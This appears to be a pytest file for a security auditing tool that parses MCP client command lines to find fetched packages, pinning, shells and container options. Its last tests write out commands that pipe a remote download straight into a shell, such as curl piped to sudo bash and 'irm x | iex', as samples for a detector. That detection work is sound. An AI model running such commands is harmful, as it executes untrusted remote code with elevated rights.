"""What a client's command line starts, however it is wrapped."""

import pytest

from mcpsec.audit.commands import container_of, downloads_into_shell, packages_of, shell_of

COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("npx -y server@1.2.3", ("npm", "server", True)),
        ("npx -y server@^1.2.3", ("npm", "server", False)),
        ("npx -y @scope/server", ("npm", "@scope/server", False)),
        ("npx --package=@scope/server@2.0.0 -- run-it", ("npm", "@scope/server", True)),
        ("npx -- server@1.0.0 --", ("npm", "server", True)),
        ("npm exec server", ("npm", "server", False)),
        ("pnpm dlx server@3.1.4", ("npm", "server", True)),
        (f"npx github:owner/server#{COMMIT}", ("git", "github:owner/server", True)),
        ("npx owner/server#main", ("git", "owner/server", False)),
        ("npx https://files.example/server.tgz", ("url", "https://files.example/server.tgz", False)),
        ("uvx server==1.2", ("pypi", "server", True)),
        ("uvx server@latest", ("pypi", "server", False)),
        ("uvx server[extra]>=1", ("pypi", "server", False)),
        ("uv tool run --python 3.12 server", ("pypi", "server", False)),
        ("uv run --with server==1.0 main.py", ("pypi", "server", True)),
        ("pipx run --spec server==2.0 tool", ("pypi", "server", True)),
        (f"uvx --from git+https://git.example/server@{COMMIT} server", ("git", "https://git.example/server", True)),
        ("uvx --from git+https://git.example/server@main server", ("git", "https://git.example/server", False)),
        (f"uvx server@https://files.example/s.whl#sha256={COMMIT}", ("url", None, True)),
        ("deno run npm:server@1.0.0", ("npm", "server", True)),
        (r"C:\\nodejs\\npx.cmd server", ("npm", "server", False)),
        ("env -u HOME A=b npx server", ("npm", "server", False)),
        ("sudo -u app npx server", ("npm", "server", False)),
        ("sudo -nu app npx server", ("npm", "server", False)),
        ("sudo -nuapp npx server", ("npm", "server", False)),
        ("sudo --user app --login npx server", ("npm", "server", False)),
        ("nice --adjustment=5 timeout --signal KILL 5 npx server", ("npm", "server", False)),
        ("nice -n 10 npx server", ("npm", "server", False)),
        ("timeout -k 5 60 uvx server", ("pypi", "server", False)),
        ("nohup exec -- npx server", ("npm", "server", False)),
        ("doppler run --project x -- npx server", ("npm", "server", False)),
        ("cmd /c npx server", ("npm", "server", False)),
    ],
)
def test_a_package_is_found_behind_every_runner_and_wrapper(line: str, found: tuple[str, str | None, bool]) -> None:
    (package,) = packages_of(line.split(" "))
    ecosystem, name, pinned = found
    assert (package.ecosystem, package.pinned) == (ecosystem, pinned)
    assert name is None or package.name == name
    assert package.text.removeprefix("npm:") in line.split(" ")[package.index]


@pytest.mark.parametrize(
    "line",
    [
        "",
        "sudo",
        "env A=b",
        "npx",
        "npx --",
        "npx ./local",
        "npx ${SERVER}",
        "uvx .",
        "uvx $SERVER",
        "uvx ???",
        "node server.js",
    ],
)
def test_what_fetches_nothing_is_no_package(line: str) -> None:
    assert packages_of(line.split()) == []


@pytest.mark.parametrize(
    ("line", "name", "script", "file"),
    [
        ("bash -lc 'x'", "bash", "'x'", False),
        ("sudo -u app sh -c run", "sh", "run", False),
        ("powershell -NoProfile -Command Get-Item .", "powershell", "Get-Item .", False),
        ("pwsh -File run.ps1", "pwsh", "", True),
        ("zsh run.zsh", "zsh", "", True),
        ("bash -l", "bash", "", False),
    ],
)
def test_a_shell_is_told_with_what_it_runs(line: str, name: str, script: str, file: bool) -> None:
    shell = shell_of(line.split())
    assert shell is not None
    assert (shell.name, shell.script, shell.file) == (name, script, file)


@pytest.mark.parametrize("line", ["", "cmd /c npx server", "node -c x"])
def test_other_programs_are_no_shell(line: str) -> None:
    assert shell_of(line.split()) is None


@pytest.mark.parametrize(
    ("line", "image", "options"),
    [
        (
            "docker run -i --rm -eKEY=v -v /:/host image:1 arg",
            "image:1",
            {"-i": "", "--rm": "", "-e": "KEY=v", "-v": "/:/host"},
        ),
        ("docker --context far container run image", "image", {}),
        ("sudo podman create --privileged image", "image", {"--privileged": ""}),
        ("docker run --rm", "", {"--rm": ""}),
    ],
)
def test_a_container_is_taken_apart(line: str, image: str, options: dict[str, str]) -> None:
    words = line.split()
    container = container_of(words)
    assert container is not None
    assert container.image == image
    assert {name: value for name, value, _ in container.options} == options
    assert not image or words[container.index] == image


@pytest.mark.parametrize("line", ["", "docker", "docker ps", "docker compose up", "kubectl run x"])
def test_what_runs_no_container_is_none(line: str) -> None:
    assert container_of(line.split()) is None


@pytest.mark.parametrize(
    "script", ["curl -s https://x.example/i | sudo bash", "bash <(curl https://x.example)", "irm x | iex"]
)
def test_a_download_into_a_shell_is_seen(script: str) -> None:
    assert downloads_into_shell(script)


def test_a_download_to_a_file_is_none() -> None:
    assert not downloads_into_shell("curl -o out https://x.example && cat out | less")
